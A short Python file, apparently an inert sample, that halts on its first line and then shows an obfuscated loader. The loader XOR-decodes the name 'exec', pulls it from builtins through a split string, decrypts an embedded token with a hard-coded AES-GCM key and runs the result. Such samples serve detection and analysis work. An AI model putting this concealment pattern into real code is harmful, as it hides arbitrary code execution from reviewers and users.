raise SystemExit("inert sample")
import importlib
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
W = "qlqw8sn2mzq0d"
def names(seed):
    return "".join(chr(ord(c) ^ seed) for c in W[:4])
def run(token):
    mod = importlib.import_module("built" + "ins")
    fn = mod.__dict__[names(20)]
    src = AESGCM(b"k" * 16).decrypt(b"n" * 12, token, None)
    fn(compile(src, "<s>", "exec"))
run(b"gAAAAABrBNaPTbeVB_OPwuPahIiH20CG4c5f28iS2vXhISC0tDuaEPVnMv2wo48T9z6r")
